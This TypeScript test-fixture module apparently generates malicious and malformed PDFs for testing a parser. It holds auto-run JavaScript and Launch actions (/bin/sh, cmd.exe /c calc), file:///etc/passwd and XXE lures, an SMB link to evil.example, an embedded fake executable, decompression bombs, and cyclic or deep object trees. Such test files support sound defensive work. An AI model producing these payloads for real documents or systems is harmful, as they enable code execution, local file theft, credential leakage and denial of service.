import { deflateSync } from 'node:zlib';

/* PDFs that lie, lure or swell. Built object by object, so that each differs from an honest one in the one thing it is about. */

type Part = string | Uint8Array;
const latin1 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));
const joined = (...parts: readonly Part[]): Uint8Array => new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin1(part) : part))));
const stream = (dictionary: string, content: Uint8Array): Uint8Array => joined(`<<${dictionary}/Length ${content.length}>>stream\n`, content, '\nendstream');

/** A file of these objects (the first is the catalogue) with a right cross-reference table. */
export function pdf(objects: readonly Part[], trailer = ''): Uint8Array {
  const parts: Uint8Array[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const places: number[] = [];
  let at = parts[0]!.length;
  for (const [n, object] of objects.entries()) {
    const written = joined(`${n + 1} 0 obj\n`, object, '\nendobj\n');
    places.push(at);
    at += written.length;
    parts.push(written);
  }
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')}`;
  return joined(...parts, `${table}trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`);
}

const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>';
const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
const words = stream('', latin1('BT /F 18 Tf 80 700 Td (report) Tj ET'));
/** One page with a word on it; more in the catalogue, on the page, and as objects from number 6 on. */
export const onePage = ({ catalogue = '', page = PAGE, content = words, more = [], trailer = '' }: { catalogue?: string; page?: string; content?: Part; more?: readonly Part[]; trailer?: string } = {}): Uint8Array =>
  pdf([`<</Type/Catalog/Pages 2 0 R${catalogue}>>`, '<</Type/Pages/Count 1/Kids[3 0 R]>>', page, FONT, content, ...more], trailer);

const swollen = (bytes: number): Uint8Array => deflateSync(new Uint8Array(bytes), { level: 9 });

export const withJavaScript = (): Uint8Array => onePage({ catalogue: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://127.0.0.1:9/"\\))>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(while\\(true\\);)>>]>>>>' });
export const withLaunch = (): Uint8Array => onePage({ catalogue: '/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>' });
export const withUri = (): Uint8Array => onePage({ catalogue: '/OpenAction<</S/URI/URI(file:///etc/passwd)>>/AA<</WC<</S/GoToR/F(\\\\\\\\evil.example\\\\share)>>>>' });
export const withEmbedded = (): Uint8Array => onePage({ catalogue: '/Names<</EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)/EF<</F 6 0 R>>>>]>>>>', more: [stream('/Type/EmbeddedFile', latin1('MZ\x90\0'))] });
export const withXfa = (): Uint8Array => onePage({ catalogue: '/AcroForm<</Fields[]/XFA 6 0 R>>', more: [stream('', latin1('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'))] });

/** The tree of pages says a hundred thousand and names one page that often. */
export const manyPages = (): Uint8Array => pdf(['<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Count 100000/Kids[${'3 0 R '.repeat(100_000)}]>>`, PAGE, FONT, words]);
/** A tree of pages that leads back to itself. */
export const pagesInACircle = (): Uint8Array => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 2/Kids[3 0 R]>>', '<</Type/Pages/Parent 2 0 R/Count 1/Kids[2 0 R]>>', FONT, words]);
export const deepPages = (): Uint8Array => pdf(['<</Type/Catalog/Pages 2 0 R>>', ...Array.from({ length: 20_000 }, (_, n) => `<</Type/Pages/Count 1/Kids[${n + 3} 0 R]>>`), '<</Type/Page/MediaBox[0 0 9 9]>>']);
/** Sixty megabytes of nothing behind sixty kilobytes, as what the page draws. */
export const contentBomb = (): Uint8Array => onePage({ content: stream('/Filter/FlateDecode', swollen(60_000_000)) });
/** The same packed thrice: each layer unpacks to a thousand times itself. */
export const nestedBomb = (): Uint8Array => onePage({ content: stream('/Filter[/FlateDecode/FlateDecode/FlateDecode]', new Uint8Array(deflateSync(deflateSync(swollen(100_000_000), { level: 9 }), { level: 9 }))) });
/** Objects hidden in a stream that unpacks without end; the table of objects leads into it. */
export function objectStreamBomb(): Uint8Array {
  const packed = swollen(100_000_000);
  const head = joined('%PDF-1.7\n', '1 0 obj\n', stream('/Type/ObjStm/N 1000000/First 9000000/Filter/FlateDecode', packed), '\nendobj\n');
  const index = Uint8Array.from([[0, 0, 0, 0, 0], [1, 0, 0, 0, 9], [2, 0, 0, 1, 0], [2, 0, 0, 1, 1], [1, (head.length >> 16) & 255, (head.length >> 8) & 255, head.length & 255, 0]].flat());
  return joined(head, '4 0 obj\n', stream('/Type/XRef/Size 5/W[1 3 1]/Root 2 0 R', index), `\nendobj\nstartxref\n${head.length}\n%%EOF\n`);
}
export const hugePicture = (): Uint8Array => onePage({ page: PAGE.replace('/Font<<', '/XObject<</I 6 0 R>>/Font<<'), content: stream('', latin1('q 500 0 0 500 0 0 cm /I Do Q')), more: [stream('/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode', swollen(1_000_000))] });
export const hugePage = (): Uint8Array => onePage({ page: PAGE.replace('[0 0 595 842]', '[0 0 1e9 1e9]') });
export const noSizePage = (): Uint8Array => onePage({ page: PAGE.replace('[0 0 595 842]', '[0 0 0 0]') });
export const formInAForm = (): Uint8Array => onePage({ page: PAGE.replace('/Font<<', '/XObject<</X 6 0 R>>/Font<<'), content: stream('', latin1('/X Do')), more: [stream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>', latin1('/X Do '.repeat(50)))] });
export const manyStrokes = (): Uint8Array => onePage({ content: stream('/Filter/FlateDecode', new Uint8Array(deflateSync('0 0 m 9 9 l S '.repeat(150_000)))) });
export const brokenTable = (): Uint8Array => latin1(Buffer.from(onePage()).toString('latin1').replace(/\d{10} 00000 n/g, '9999999999 00000 n'));
export const tableInACircle = (): Uint8Array => { const whole = onePage(); const at = Buffer.from(whole).lastIndexOf('xref\n0'); return latin1(Buffer.from(whole).toString('latin1').replace('trailer<<', `trailer<</Prev ${at}`)); };
export const deepNesting = (): Uint8Array => onePage({ catalogue: `/X ${'['.repeat(100_000)}${']'.repeat(100_000)}` });
/** A font whose character map is built on itself and names four thousand million characters, a thousand times. */
export const badFont = (): Uint8Array => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[3 0 R]>>', PAGE, '<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 6 0 R/DescendantFonts[4 0 R]>>', words, stream('/Type/CMap/UseCMap 6 0 R', latin1('1 begincidrange <0000> <ffffffff> 0 endcidrange\n'.repeat(1000)))]);
/** A password that is not the empty one: nobody here can derive the key. */
export const locked = (): Uint8Array => onePage({ more: [`<</Filter/Standard/V 1/R 2/P -4/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>`], trailer: `/Encrypt 6 0 R/ID[<${'00'.repeat(16)}><${'00'.repeat(16)}>]` });
/** Locked under a cipher that nobody knows. */
export const lockedStrangely = (): Uint8Array => onePage({ more: ['<</Filter/Standard/V 99/R 99/P -4/O()/U()>>'], trailer: '/Encrypt 6 0 R' });
